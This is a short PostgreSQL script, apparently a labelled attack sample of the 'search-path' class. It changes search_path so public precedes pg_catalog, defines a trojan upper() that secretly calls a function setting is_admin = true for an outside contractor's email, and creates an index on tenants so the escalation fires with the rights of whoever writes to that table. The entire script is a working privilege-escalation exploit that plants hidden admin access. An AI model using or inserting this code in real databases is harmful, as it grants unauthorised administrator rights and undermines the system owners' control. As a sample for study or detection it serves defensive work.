-- class: search-path
-- Changes the search_path with set_config() so that an index expression binds to a trojan upper() that runs with the rights of whoever writes to tenants.
SELECT set_config('search_path', 'public, pg_catalog', true);

CREATE FUNCTION promote_contractor() RETURNS void LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  UPDATE public.users SET is_admin = true WHERE email = 'contractor@outside.example';
END
$$;

CREATE FUNCTION upper(text) RETURNS text LANGUAGE sql IMMUTABLE AS $$
  SELECT pg_catalog.upper($1) FROM (SELECT public.promote_contractor()) AS side_effect
$$;

CREATE INDEX tenants_name_upper_idx ON tenants (upper(name));
